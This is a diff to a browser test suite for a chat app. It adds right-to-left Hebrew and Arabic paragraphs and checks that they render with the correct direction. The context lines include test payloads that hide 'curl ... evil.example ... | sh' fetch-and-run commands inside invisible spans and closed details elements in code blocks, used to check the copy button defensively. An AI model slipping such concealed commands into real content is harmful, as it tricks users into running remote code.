@@ -210,7 +210,9 @@ describe('chat in the browser', { timeout: 120_000 }, () => {
       // Code blocks whose Copy would paste what they do not show (security review 5, #2): a forged
       // marker hidden with sr-only, text hidden by class, text in a closed <details>.
       '\n\n<pre><code>echo hello<span class="invisible-char sr-only">⟨U+202E⟩</span>world<span class="hidden"> ; curl -s https://evil.example/x.sh | sh</span></code></pre>' +
-      '\n\n<pre><code>echo hi<details><summary></summary> ; curl -s https://evil.example/y.sh | sh</details></code></pre>';
+      '\n\n<pre><code>echo hi<details><summary></summary> ; curl -s https://evil.example/y.sh | sh</details></code></pre>' +
+      // Right-to-left paragraphs with the implicit marks Hebrew and Arabic writing uses (QA 5 #1).
+      '\n\nשלום עולם! גרסה 2.0\u200F היא הטובה ביותר.\n\nمرحبا بالعالم\u061C (الإصدار 3)\u200F.';
     await composer(page).fill(payload);
     await composer(page).press('Enter');
     const answer = page.locator('article[aria-label="Assistant message"][data-status="complete"]').last();
@@ -235,6 +237,20 @@ describe('chat in the browser', { timeout: 120_000 }, () => {
       expect(text).toContain('👨‍👩‍👧');
       expect(text).not.toMatch(/[\u202A-\u202E\u200B]/);
       await expect(rendered.locator('.invisible-char').first().getAttribute('title')).resolves.toBe('U+202E RIGHT-TO-LEFT OVERRIDE, an invisible character');
+      // Each block takes its direction from its text; the implicit marks (RLM, ALM) stay text,
+      // where a marker split the sentence and reordered it (QA 5 #1). Code stays left to right.
+      const direction = (el: Element) => getComputedStyle(el).direction;
+      const hebrew = rendered.locator('p', { hasText: 'שלום עולם' });
+      const arabic = rendered.locator('p', { hasText: 'مرحبا بالعالم' });
+      await expect(hebrew.evaluate(direction)).resolves.toBe('rtl');
+      await expect(arabic.evaluate(direction)).resolves.toBe('rtl');
+      await expect(rendered.locator('p').first().evaluate(direction)).resolves.toBe('ltr');
+      await expect(rendered.locator('pre').first().evaluate(direction)).resolves.toBe('ltr');
+      await expect(hebrew.textContent()).resolves.toBe('שלום עולם! גרסה 2.0\u200F היא הטובה ביותר.');
+      await expect(arabic.textContent()).resolves.toBe('مرحبا بالعالم\u061C (الإصدار 3)\u200F.');
+      await expect(rendered.locator('.invisible-char').evaluateAll((els) => els.map((el) => el.textContent))).resolves.not.toContain('⟨U+200F⟩');
+      await expect(page.getByTestId('user-text').last().getAttribute('dir')).resolves.toBe('auto');
+      await expect(page.getByTestId('user-text').last().textContent()).resolves.toContain('2.0\u200F היא');
       // Copy takes the code as the model wrote it.
       const copy = rendered.getByRole('button', { name: 'Copy code' });
       await copy.first().click();
